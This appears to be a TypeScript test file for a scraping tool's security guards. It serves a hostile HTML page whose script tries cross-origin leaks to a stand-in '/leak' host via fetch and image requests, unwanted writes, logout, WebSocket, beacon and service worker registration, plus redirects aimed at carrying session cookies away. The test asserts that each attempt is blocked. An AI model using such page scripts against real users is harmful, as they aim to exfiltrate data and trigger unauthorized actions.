// A hostile page in a real browser, and hostile redirects for the HTTP client: whatever they try, nothing but reads
// of consented origins arrives anywhere, and the session's cookies stay at the UI.
import { expect } from 'chai';
import { Hono } from 'hono';
import { afterEach, beforeEach, describe, it } from 'mocha';
import type { Gate } from '../../extractors/access/gate.ts';
import { openSession, SignedOut } from '../../extractors/access/session.ts';
import { startBrowser } from '../../extractors/browser/browser.ts';
import { openContext } from '../../extractors/browser/browser-context.ts';
import { createHttpSource, Refused } from '../../extractors/http/http-source.ts';
import { createPacer } from '../../extractors/http/pacer.ts';
import { systemClock } from '../../lib/clock.ts';
import { silentLogger } from '../../lib/logger.ts';
import { type Listening, listen } from '../../sandbox/listen.ts';
import { countsOf, gateOf } from '../support/gate.ts';
import { rejection } from '../support/rejection.ts';

const hostile = (foreign: string): string => `<main>
<form id="f" method="post" action="/write/form"><input name="a" value="1"></form>
<script>
const tried = [
  fetch('/write/post', { method: 'POST', body: 'x' }),
  fetch('/write/put', { method: 'PUT' }),
  fetch('/write/delete', { method: 'DELETE' }),
  fetch('/logout'),
  fetch('${foreign}/leak?from=fetch', { mode: 'no-cors' }),
  fetch('/away', { mode: 'no-cors' }),
  new Promise((done) => { const s = new WebSocket(location.origin.replace('http', 'ws') + '/socket'); s.onclose = s.onerror = done; }),
  new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = '${foreign}/leak?from=image'; }),
  navigator.serviceWorker ? navigator.serviceWorker.register('/worker.js') : Promise.resolve(),
];
navigator.sendBeacon('/write/beacon', 'x');
Promise.allSettled(tried).then(() => { document.body.dataset.done = 'yes'; });
</script></main>`;

describe('guards in a real browser and the HTTP client', function () {
  this.timeout(60_000);
  let ui: Listening;
  let foreign: Listening;
  let cdn: Listening;
  let gate: Gate;
  const seen: { ui: string[]; foreign: string[]; cdn: string[]; cookies: string[] } = {
    ui: [],
    foreign: [],
    cdn: [],
    cookies: [],
  };

  beforeEach(async () => {
    for (const list of Object.values(seen)) list.length = 0;
    const foreignApp = new Hono();
    foreignApp.all('*', (c) => {
      seen.foreign.push(`${c.req.method} ${c.req.path}`);
      return c.text('got you');
    });
    foreign = await listen(foreignApp);
    // Another name for the same machine: a foreign origin that does exist and would answer.
    const elsewhere = foreign.url.replace('127.0.0.1', 'localhost');
    const cdnApp = new Hono();
    cdnApp.all('*', (c) => {
      seen.cdn.push(`${c.req.method} ${c.req.path}`);
      seen.cookies.push(c.req.header('cookie') ?? '');
      return c.req.path === '/away' ? c.redirect(`${elsewhere}/leak`) : c.text('bytes');
    });
    cdn = await listen(cdnApp);
    const uiApp = new Hono();
    uiApp.all('*', (c) => {
      seen.ui.push(`${c.req.method} ${c.req.path}`);
      if (c.req.path === '/away') return c.redirect(`${elsewhere}/leak`);
      if (c.req.path === '/file') return c.redirect(`${cdn.url}/file`);
      return c.html(hostile(elsewhere));
    });
    ui = await listen(uiApp);
    gate = await gateOf([ui.url, cdn.url], { never: ['/logout*'] });
  });

  afterEach(async () => {
    for (const server of [ui, foreign, cdn]) await server.close();
  });

  it('lets a hostile page read and nothing else', async () => {
    const opened = await startBrowser(undefined, { agent: 'threadlift/test', hosts: ['127.0.0.1'] });
    try {
      const context = await openContext(opened, {
        gate,
        phase: 'read',
        leaveOut: () => false,
        stop: (reason) => {
          throw reason;
        },
      });
      const page = await context.newPage();
      await page.goto(`${ui.url}/inbox`);
      await page.waitForSelector('body[data-done=yes]');
      await page.evaluate(() => (document.querySelector('#f') as HTMLFormElement).submit()).catch(() => null);
      await page.waitForTimeout(300);
      await page.goto(`${ui.url}/away`).catch(() => null);
      expect(seen.foreign, 'nothing leaks, not even by way of a redirect').to.deep.equal([]);
      expect(new Set(seen.ui)).to.deep.equal(new Set(['GET /inbox', 'GET /away']));
      expect(countsOf(gate)).to.deep.equal({ write: 5, 'foreign-origin': 4, never: 1, socket: 1 });
      expect(opened.userAgent).to.match(/Chrome\/.* threadlift\/test$/);
    } finally {
      await opened.close();
    }
  });

  it('judges every hop of a redirect, and never takes the session to where files lie', async () => {
    const signal = new AbortController().signal;
    const cookie = {
      name: 'session',
      value: 'top-secret',
      domain: '127.0.0.1',
      path: '/',
      expires: -1,
      httpOnly: true,
      secure: false,
      sameSite: 'Lax' as const,
    };
    const session = await openSession(
      { storageState: { cookies: [cookie], origins: [] }, userAgent: 'test' },
      null,
    );
    const http = createHttpSource({
      gate,
      session,
      pacer: createPacer(1000, systemClock, signal),
      clock: systemClock,
      logger: silentLogger,
      signal,
      // Even an origin whose pages share the session gets no cookies with a file.
      sessionOrigins: [ui.url, cdn.url],
    });
    // A page that leads elsewhere is a sign-on elsewhere: not followed either.
    const away = await http.text(`${ui.url}/away`, 'html').catch((error: unknown) => error);
    expect(away).to.be.instanceOf(SignedOut);
    expect(await rejection(http.bytes(`${cdn.url}/away`))).to.be.instanceOf(Refused);
    expect(await rejection(http.text(`${ui.url}/logout`, 'html'))).to.be.instanceOf(Refused);
    const file = await http.bytes(`${ui.url}/file`);
    expect(file.status).to.equal(200);
    expect(seen.foreign).to.deep.equal([]);
    expect(seen.cookies).to.deep.equal(['', '']);
    expect(seen.ui).not.to.include('GET /logout');
    for await (const _ of file.body);
  });
});
